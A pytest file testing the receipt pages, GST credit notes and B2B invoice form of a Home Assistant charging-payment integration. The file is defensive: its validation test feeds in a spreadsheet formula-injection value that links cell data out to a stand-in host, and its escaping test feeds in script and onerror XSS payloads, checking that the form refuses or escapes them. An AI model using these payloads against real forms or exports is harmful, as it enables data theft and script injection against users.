"""The receipt of a session page and its B2B form, over HTTP after a signed payment."""

from __future__ import annotations

import asyncio
import re
from datetime import UTC, datetime, timedelta

import pytest
from freezegun.api import FrozenDateTimeFactory
from homeassistant.core import HomeAssistant
from pytest_homeassistant_custom_component.common import async_fire_time_changed

from custom_components.qr_charging.const import DOMAIN
from custom_components.qr_charging.invoices import Document
from custom_components.qr_charging.tax import IST, DocumentKind
from devtools.razorpay_standin import RazorpayStandin

from .helpers import PostWebhook, settle
from .pages_helpers import (
    Customer,
    assert_self_contained,
    callback_query,
    failing_b2b,
    link_of,
    pay_link,
    set_tax_details,
    token_of,
)
from .tax_helpers import (
    KARNATAKA_CUSTOMER,
    MAHARASHTRA_CUSTOMER,
    OWNER_ADDRESS,
    OWNER_GSTIN,
    OWNER_NAME,
    tax_options,
)
from .tax_options_helpers import GSTIN_OFF_BY_ONE

INVOICE = r"INV/\d{4}/"
B2B = {"gstin": KARNATAKA_CUSTOMER, "name": "Acme Fleet Pvt Ltd", "address": "Hubli"}


async def _paid_session(
    hass: HomeAssistant, customer: Customer, standin: RazorpayStandin, post_webhook: PostWebhook
) -> tuple[str, str]:
    """A customer pays ₹20 for 30 minutes and charging starts: their page's query, session."""
    link_id = link_of(standin, await customer.pay_button("bay=bay-1"))
    await pay_link(hass, standin, post_webhook, link_id)
    return callback_query(standin, link_id), standin.links[link_id]["reference_id"]


async def _documents(hass: HomeAssistant, session_id: str) -> list[Document]:
    (entry,) = hass.config_entries.async_entries(DOMAIN)
    documents: list[Document] = await entry.runtime_data.books.store.async_documents(session_id)
    return documents


def _numbers(text: str, mark: str = "") -> set[str]:
    return set(re.findall(rf"{INVOICE}{mark}\d+", text))


async def test_the_receipt_shows_the_tax_invoice_split_to_the_paisa(
    hass: HomeAssistant, customer: Customer, standin: RazorpayStandin, post_webhook: PostWebhook
) -> None:
    await set_tax_details(hass, tax_options())
    query, session_id = await _paid_session(hass, customer, standin, post_webhook)

    session_page = await customer.get(query)
    assert f'href="?token={token_of(query)}&amp;receipt=a4"' in session_page.text
    assert f'href="?token={token_of(query)}&amp;receipt=roll"' in session_page.text
    hindi = await customer.get(f"{query}&lang=hi")
    assert f'href="?token={token_of(query)}&amp;receipt=a4&amp;lang=hi">रसीद</a>' in hindi.text
    page = await customer.get(f"{query}&receipt=a4")

    assert page.status == 200
    assert_self_contained(page)
    (invoice,) = await _documents(hass, session_id)
    assert invoice.kind is DocumentKind.INVOICE
    assert _numbers(page.text) == {invoice.number}
    for shown in (
        "Tax invoice",
        OWNER_NAME,
        f"<dd>{OWNER_ADDRESS}</dd>",  # Rule 46(a): the supplier's address as registered
        OWNER_GSTIN,
        "29-Karnataka",
        "999799",
        # ₹20 at 18 %: taxable ₹16.95, tax 305 paise: CGST 152, SGST 153.
        "<dt>Taxable value</dt><dd>₹16.95</dd>",
        "<dt>CGST @ 9%</dt><dd>₹1.52</dd>",
        "<dt>SGST @ 9%</dt><dd>₹1.53</dd>",
        "<dt>Total (tax included)</dt><dd>₹20.00</dd>",
        "<dt>Paid</dt><dd>₹20.00</dd>",
        "<dt>Net</dt><dd>₹20.00</dd>",
        "Vehicle charging, 30 min at Bay 1",
        "Reverse charge: No",
        "Computer-generated document",
        "@page{size:A4",
        "window.print()",
        "Need a GST invoice for your business?",
    ):
        assert shown in page.text, shown
    assert "IGST" not in page.text

    roll = await customer.get(f"{query}&receipt=roll&lang=hi")
    assert roll.status == 200
    assert "@page{size:80mm 297mm" in roll.text
    assert "टैक्स इनवॉइस" in roll.text
    assert "<dt>कर योग्य मूल्य</dt><dd>₹16.95</dd>" in roll.text
    assert 'action="?token=' in roll.text
    assert "&amp;lang=hi" in roll.text


async def test_a_refund_shows_its_credit_note(
    hass: HomeAssistant,
    customer: Customer,
    standin: RazorpayStandin,
    post_webhook: PostWebhook,
    freezer: FrozenDateTimeFactory,
) -> None:
    """The credit note of a refund made days later prints the invoice's number and date
    (Rule 53(1A)), not the number alone."""
    await set_tax_details(hass, tax_options())
    query, session_id = await _paid_session(hass, customer, standin, post_webhook)
    (invoice,) = await _documents(hass, session_id)
    freezer.tick(timedelta(days=6))
    async_fire_time_changed(hass)
    await settle(hass)

    await hass.services.async_call(
        DOMAIN, "refund", {"payment_id": invoice.payment_id, "amount": 5}, blocking=True
    )
    await settle(hass)
    page = await customer.get(f"{query}&receipt=a4")

    (note,) = [d for d in await _documents(hass, session_id) if d.kind is DocumentKind.CREDIT_NOTE]
    assert _numbers(page.text, "C") == {note.number}
    invoiced = datetime.fromtimestamp(invoice.issued_at, UTC).astimezone(IST)
    assert datetime.fromtimestamp(note.issued_at, UTC).astimezone(IST).date() > invoiced.date()
    assert f"<dt>Against</dt><dd>{invoice.number} of {invoiced:%d-%m-%Y}</dd>" in page.text
    # ₹5 of ₹20 at 18 %: taxable ₹4.24, CGST and SGST 38 paise each.
    assert "<dt>Taxable value</dt><dd>₹4.24</dd>" in page.text
    assert "<dt>CGST @ 9%</dt><dd>₹0.38</dd>" in page.text
    assert "<dt>Refunded</dt><dd>₹5.00</dd>" in page.text
    assert "<dt>Net</dt><dd>₹15.00</dd>" in page.text


async def test_without_a_gstin_a_receipt_and_no_form(
    hass: HomeAssistant, customer: Customer, standin: RazorpayStandin, post_webhook: PostWebhook
) -> None:
    query, session_id = await _paid_session(hass, customer, standin, post_webhook)

    page = await customer.get(f"{query}&receipt=a4")
    (receipt,) = await _documents(hass, session_id)
    assert receipt.kind is DocumentKind.RECEIPT
    assert receipt.number in page.text
    assert "<dt>Amount</dt><dd>₹20.00</dd>" in page.text
    assert "GSTIN" not in page.text
    assert "<form" not in page.text
    answer = await customer.post(f"{query}&receipt=a4", B2B)
    assert answer.status == 409
    assert "not registered for GST" in answer.text
    assert len(await _documents(hass, session_id)) == 1


async def test_a_business_gets_a_b2b_invoice_and_the_b2c_one_is_credited(
    hass: HomeAssistant, customer: Customer, standin: RazorpayStandin, post_webhook: PostWebhook
) -> None:
    await set_tax_details(hass, tax_options())
    query, session_id = await _paid_session(hass, customer, standin, post_webhook)
    (b2c,) = await _documents(hass, session_id)

    # Typed on a phone: lower case, spaces.
    typed = B2B | {"gstin": " ".join(KARNATAKA_CUSTOMER.lower()[i : i + 5] for i in (0, 5, 10))}
    answer = await customer.post(f"{query}&receipt=a4", typed)

    assert answer.status == 200, answer.text
    _, note, b2b = await _documents(hass, session_id)
    assert (note.kind, note.against) == (DocumentKind.CREDIT_NOTE, b2c.number)
    assert b2b.kind is DocumentKind.INVOICE
    assert b2b.recipient is not None
    assert b2b.recipient.gstin == KARNATAKA_CUSTOMER
    assert _numbers(answer.text) == {b2c.number, b2b.number}
    assert note.number in answer.text
    assert f"Cancelled by credit note {note.number}" in answer.text
    assert "<dt>Recipient</dt><dd>Acme Fleet Pvt Ltd</dd>" in answer.text
    assert f"<dt>Recipient&#39;s GSTIN</dt><dd>{KARNATAKA_CUSTOMER}</dd>" in answer.text
    assert "Need a GST invoice" not in answer.text  # nothing left to invoice to anyone
    # Asked again with the same GSTIN (a reload that resends): nothing more is issued.
    again = await customer.post(f"{query}&receipt=a4", B2B)
    assert again.status == 200
    assert len(await _documents(hass, session_id)) == 3
    # Another GSTIN: refused, in the customer's language.
    other = await customer.post(
        f"{query}&receipt=a4&lang=hi", B2B | {"gstin": MAHARASHTRA_CUSTOMER}
    )
    assert other.status == 409
    assert "किसी दूसरे GSTIN के नाम" in other.text
    assert len(await _documents(hass, session_id)) == 3


async def test_the_owners_own_gstin_is_refused_in_the_customers_language(
    hass: HomeAssistant, customer: Customer, standin: RazorpayStandin, post_webhook: PostWebhook
) -> None:
    """Printed right above the form, it would make the owner's invoice out to the owner."""
    await set_tax_details(hass, tax_options())
    query, session_id = await _paid_session(hass, customer, standin, post_webhook)

    answer = await customer.post(f"{query}&receipt=a4&lang=hi", B2B | {"gstin": OWNER_GSTIN})

    assert answer.status == 409
    assert "यह व्यापारी का अपना GSTIN है" in answer.text
    assert len(await _documents(hass, session_id)) == 1


async def test_after_30_days_the_form_is_gone_and_a_request_is_refused(
    hass: HomeAssistant,
    customer: Customer,
    standin: RazorpayStandin,
    post_webhook: PostWebhook,
    freezer: FrozenDateTimeFactory,
) -> None:
    """Rule 47's 30 days: the page offers the form until then, and refuses a form sent from a
    page opened before (one rule, ``invoices.replaceable``, for both)."""
    await set_tax_details(hass, tax_options())
    query, session_id = await _paid_session(hass, customer, standin, post_webhook)
    freezer.tick(timedelta(days=30))
    assert "Need a GST invoice" in (await customer.get(f"{query}&receipt=a4")).text

    freezer.tick(timedelta(minutes=1))
    page = await customer.get(f"{query}&receipt=a4")
    assert page.status == 200
    assert "Need a GST invoice" not in page.text
    answer = await customer.post(f"{query}&receipt=a4", B2B)
    assert answer.status == 409
    assert "more than 30 days old" in answer.text
    assert len(await _documents(hass, session_id)) == 1


@pytest.mark.parametrize(
    ("form", "field_error"),
    [
        ({"gstin": KARNATAKA_CUSTOMER[:-1]}, "This is not a GSTIN"),  # 14 characters
        ({"gstin": KARNATAKA_CUSTOMER + "1"}, "This is not a GSTIN"),  # 16
        ({"gstin": "99" + KARNATAKA_CUSTOMER[2:]}, "This is not a GSTIN"),  # no such state
        ({"gstin": ""}, "This is not a GSTIN"),
        ({"gstin": "29-ABCDE-1234"}, "This is not a GSTIN"),
        ({"gstin": GSTIN_OFF_BY_ONE}, "This GSTIN has a typing mistake"),
        ({"name": ""}, "Please fill this in."),
        ({"name": "x" * 101}, "This is too long."),
        ({"address": "x" * 201}, "This is too long."),
        ({"name": "Acme\x07Fleet"}, "This has characters that cannot be printed, or"),
        # A spreadsheet would run these as formulas once the export's CSV is opened.
        (
            {"name": '=HYPERLINK("http://x.example/?"&A1,"Acme")'},
            "This has characters that cannot be printed, or starts with =",
        ),
        ({"address": "@SUM(A1)"}, "This has characters that cannot be printed, or starts with ="),
        # Rule 46(d): the address is required, and a name must name someone.
        ({"address": ""}, "Please fill this in."),
        ({"name": "\u200d\u200c"}, "Please fill this in."),
    ],
)
async def test_a_bad_field_is_shown_on_the_form_and_issues_nothing(
    hass: HomeAssistant,
    customer: Customer,
    standin: RazorpayStandin,
    post_webhook: PostWebhook,
    form: dict[str, str],
    field_error: str,
) -> None:
    await set_tax_details(hass, tax_options())
    query, session_id = await _paid_session(hass, customer, standin, post_webhook)

    answer = await customer.post(f"{query}&receipt=a4", B2B | form)

    assert answer.status == 400
    assert f'<span class="field-error" role="alert">{field_error}' in answer.text
    assert "Need a GST invoice" in answer.text  # the form again, to correct
    assert len(await _documents(hass, session_id)) == 1


async def test_a_bad_gstin_is_told_in_hindi(
    hass: HomeAssistant, customer: Customer, standin: RazorpayStandin, post_webhook: PostWebhook
) -> None:
    await set_tax_details(hass, tax_options())
    query, _ = await _paid_session(hass, customer, standin, post_webhook)

    answer = await customer.post(
        f"{query}&receipt=a4",
        B2B | {"gstin": GSTIN_OFF_BY_ONE},
        headers={"Accept-Language": "hi-IN,hi;q=0.9"},
    )

    assert answer.status == 400
    assert "इस GSTIN में टाइपिंग की ग़लती है" in answer.text


async def test_two_taps_at_once_issue_one_b2b_invoice(
    hass: HomeAssistant, customer: Customer, standin: RazorpayStandin, post_webhook: PostWebhook
) -> None:
    await set_tax_details(hass, tax_options())
    query, session_id = await _paid_session(hass, customer, standin, post_webhook)

    answers = await asyncio.gather(
        *(customer.post(f"{query}&receipt=a4", B2B) for _ in range(2)),
        customer.post(f"{query}&receipt=roll", B2B | {"gstin": MAHARASHTRA_CUSTOMER}),
    )

    documents = await _documents(hass, session_id)
    b2b = [d for d in documents if d.recipient is not None]
    assert len(b2b) == 1
    assert len(documents) == 3
    # The one to the GSTIN asked first stands; the other is refused (whichever came first).
    assert sorted(a.status for a in answers) in ([200, 200, 409], [200, 409, 409])
    assert {d.number for d in documents} == {d.number for d in documents if d.number}
    assert len({d.number for d in documents}) == 3


async def test_a_storage_fault_issues_nothing(
    hass: HomeAssistant, customer: Customer, standin: RazorpayStandin, post_webhook: PostWebhook
) -> None:
    await set_tax_details(hass, tax_options())
    query, session_id = await _paid_session(hass, customer, standin, post_webhook)

    with failing_b2b():
        answer = await customer.post(f"{query}&receipt=a4", B2B)

    assert answer.status == 503
    assert "Please try again in a minute" in answer.text
    assert len(await _documents(hass, session_id)) == 1
    # Tried again, the numbers go on without a gap.
    retried = await customer.post(f"{query}&receipt=a4", B2B)
    assert retried.status == 200
    numbers = sorted(d.serial for d in await _documents(hass, session_id) if not d.against)
    assert numbers == [1, 2]


async def test_a_wrong_or_absent_token_or_no_payment_is_not_found(
    hass: HomeAssistant, customer: Customer, standin: RazorpayStandin, post_webhook: PostWebhook
) -> None:
    await set_tax_details(hass, tax_options())
    link_id = link_of(standin, await customer.pay_button("bay=bay-1"))
    unpaid = callback_query(standin, link_id)
    session_id = standin.links[link_id]["reference_id"]

    for query in ("receipt=a4", "token=nonsense&receipt=a4", f"token={session_id}&receipt=a4"):
        answer = await customer.get(query)
        assert answer.status == 404, query
        assert "Page not found" in answer.text
        assert (await customer.post(query, B2B)).status == 404
    # Their own token, not paid yet: no receipt, in their language.
    answer = await customer.get(f"{unpaid}&receipt=a4&lang=hi")
    assert answer.status == 404
    assert "अभी कोई रसीद नहीं" in answer.text
    assert (await customer.post(f"{unpaid}&receipt=a4", B2B)).status == 404
    assert await _documents(hass, session_id) == []


async def test_html_in_the_name_and_address_is_escaped(
    hass: HomeAssistant, customer: Customer, standin: RazorpayStandin, post_webhook: PostWebhook
) -> None:
    await set_tax_details(hass, tax_options())
    query, session_id = await _paid_session(hass, customer, standin, post_webhook)
    name = "<script>alert(1)</script>"
    address = '"><img src=x onerror=alert(2)>'

    answer = await customer.post(f"{query}&receipt=a4", {**B2B, "name": name, "address": address})
    assert answer.status == 200
    assert_self_contained(answer)
    assert name not in answer.text
    assert address not in answer.text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in answer.text
    assert "&#34;&gt;&lt;img src=x onerror=alert(2)&gt;" in answer.text
    (_, _, b2b) = await _documents(hass, session_id)
    assert b2b.recipient is not None
    assert b2b.recipient.name == name
    # A refused form shows what was typed, escaped as well.
    refused = await customer.post(f"{query}&receipt=a4", {"gstin": name, "name": address})
    assert refused.status in (400, 409)
    assert name not in refused.text
    assert address not in refused.text


async def test_time_added_by_another_customer_is_on_their_receipt_only(
    hass: HomeAssistant, customer: Customer, standin: RazorpayStandin, post_webhook: PostWebhook
) -> None:
    await set_tax_details(hass, tax_options())
    query, session_id = await _paid_session(hass, customer, standin, post_webhook)
    # Someone else at the busy bay adds time to the running session.
    added = link_of(standin, await customer.pay_button("bay=bay-1"))
    await pay_link(hass, standin, post_webhook, added)
    first, second = await _documents(hass, session_id)

    mine = await customer.get(f"{query}&receipt=a4")
    theirs = await customer.get(f"{callback_query(standin, added)}&receipt=a4")

    assert _numbers(mine.text) == {first.number}
    assert _numbers(theirs.text) == {second.number}
    assert "<dt>Paid</dt><dd>₹20.00</dd>" in mine.text
    # A B2B invoice from one page invoices that page's payment only.
    answer = await customer.post(f"{query}&receipt=a4", B2B)
    assert answer.status == 200
    _, _, credit, b2b = await _documents(hass, session_id)
    assert (credit.against, b2b.payment_id, b2b.recipient is not None) == (
        first.number,
        first.payment_id,
        True,
    )
    theirs = await customer.get(f"{callback_query(standin, added)}&receipt=a4")
    assert _numbers(theirs.text) == {second.number}
    assert "Need a GST invoice" in theirs.text  # theirs is still theirs to have invoiced


async def test_the_receipt_and_its_form_work_through_a_cloudhook(
    hass: HomeAssistant, customer: Customer, standin: RazorpayStandin, post_webhook: PostWebhook
) -> None:
    await set_tax_details(hass, tax_options())
    query, session_id = await _paid_session(hass, customer, standin, post_webhook)

    page = await customer.send("cloudhook", "GET", f"{query}&receipt=roll")
    answer = await customer.send("cloudhook", "POST", f"{query}&receipt=roll", B2B)

    assert page.status == 200
    assert "Need a GST invoice" in page.text
    assert answer.status == 200
    assert_self_contained(answer)
    _, _, b2b = await _documents(hass, session_id)
    assert b2b.number in answer.text
